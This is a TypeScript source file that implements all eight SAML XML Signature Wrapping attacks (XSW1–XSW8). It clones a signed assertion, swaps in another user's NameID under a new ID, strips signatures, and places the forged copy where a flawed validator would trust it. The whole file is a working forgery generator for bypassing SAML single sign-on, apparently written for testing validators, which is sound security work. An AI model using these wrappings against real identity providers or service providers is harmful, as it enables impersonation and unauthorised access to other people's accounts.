import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const EVIL = 'T1002';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  response: Element;
  assertion: Element;
  /** copy that names somebody else, under another id, with its signature taken out */
  evil: Element;
  copyOf: (element: Element) => Element;
}

const signatureOf = (element: Element): Element =>
  Array.from(element.childNodes).find((node) => (node as Element).localName === 'Signature') as Element;

function without(element: Element): Element {
  element.removeChild(signatureOf(element));
  return element;
}

function turned(element: Element): Element {
  element.setAttribute('ID', '_evil');
  for (const name of Array.from(element.getElementsByTagName('saml:NameID'))) name.textContent = EVIL;
  return element;
}

const make = (parts: Parts, name: string, namespace = SIGNATURE): Element =>
  parts.response.ownerDocument.createElementNS(namespace, name);

/** The eight ways of wrapping a signature (Somorovsky et al., "On Breaking SAML"), numbered as usual. */
const attacks: Record<string, (parts: Parts) => void> = {
  XSW1: ({ response, copyOf }) => {
    const original = without(copyOf(response));
    turned(response);
    signatureOf(response).appendChild(original);
  },
  XSW2: ({ response, copyOf }) => {
    const original = without(copyOf(response));
    turned(response);
    response.insertBefore(original, signatureOf(response));
  },
  XSW3: ({ response, assertion, evil }) => void response.insertBefore(evil, assertion),
  XSW4: ({ response, assertion, evil }) => {
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  XSW5: ({ response, assertion, copyOf }) => {
    const original = without(copyOf(assertion));
    turned(assertion);
    response.appendChild(original);
  },
  XSW6: ({ assertion, copyOf }) => {
    const original = without(copyOf(assertion));
    turned(assertion);
    signatureOf(assertion).appendChild(original);
  },
  XSW7: (parts) => {
    const extensions = make(parts, 'samlp:Extensions', 'urn:oasis:names:tc:SAML:2.0:protocol');
    extensions.appendChild(parts.evil);
    parts.response.insertBefore(extensions, parts.assertion);
  },
  XSW8: (parts) => {
    const original = without(parts.copyOf(parts.assertion));
    turned(parts.assertion);
    const object = make(parts, 'ds:Object');
    object.appendChild(original);
    signatureOf(parts.assertion).appendChild(object);
  },
};

export const wrappings = Object.keys(attacks);

/** The response with its signature wrapped; `stripped` also takes the signature of the response away. */
export function wrapped(xml: string, name: string, stripped: boolean): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = document.getElementsByTagName('saml:Assertion')[0] as Element;
  if (stripped && !/[12]$/.test(name)) without(response);
  const copyOf = (element: Element) => element.cloneNode(true) as Element;
  attacks[name]?.({ response, assertion, evil: turned(without(copyOf(assertion))), copyOf });
  return new XMLSerializer().serializeToString(document);
}
